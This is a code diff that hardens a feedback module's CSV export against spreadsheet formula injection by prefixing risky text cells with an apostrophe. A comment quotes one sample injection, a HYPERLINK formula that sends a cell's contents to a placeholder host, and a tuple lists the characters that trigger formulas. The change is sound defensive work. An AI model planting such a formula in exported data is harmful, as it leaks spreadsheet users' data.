@@ -125,8 +125,20 @@ def summarise(rows: Iterable[dict[str, Any]]) -> dict[str, Any]:
             "helpful_share": round(up / len(rows), 4) if rows else None}
 
 
+# A spreadsheet runs a cell that starts with one of these as a formula (=HYPERLINK("http://x/?"&A1, "Click")): in
+# the CSV export such a text cell gets a leading "'" (OWASP, CSV injection), so it is shown as the text it is.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def csv_cell(value: Any) -> Any:
+    """A text cell that a spreadsheet would take for a formula, made text: "=1+1" -> "'=1+1". Numbers (a vote of
+    -1) are not text and stay as they are."""
+    return "'" + value if isinstance(value, str) and value.startswith(FORMULA_STARTS) else value
+
+
 def export(rows: Iterable[dict[str, Any]], fmt: str = "jsonl") -> str:
-    """rows as JSON lines, or CSV with a header (citations and model as JSON text in their cells)."""
+    """rows as JSON lines, or CSV with a header (citations and model as JSON text in their cells; text cells that
+    start with = + - @, a tab or a carriage return get a leading "'": csv_cell)."""
     rows = list(rows)
     if fmt == "jsonl":
         return "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows)
@@ -135,8 +147,9 @@ def export(rows: Iterable[dict[str, Any]], fmt: str = "jsonl") -> str:
         w = csv.DictWriter(buf, fieldnames=COLUMNS)
         w.writeheader()
         for r in rows:
-            w.writerow({**r, "citations": json.dumps(r["citations"], ensure_ascii=False),
-                        "model": json.dumps(r["model"], ensure_ascii=False)})
+            row = {**r, "citations": json.dumps(r["citations"], ensure_ascii=False),
+                   "model": json.dumps(r["model"], ensure_ascii=False)}
+            w.writerow({k: csv_cell(v) for k, v in row.items()})
         return buf.getvalue()
     raise FeedbackError(f"The export format is csv or jsonl, not {fmt!r}.")
 
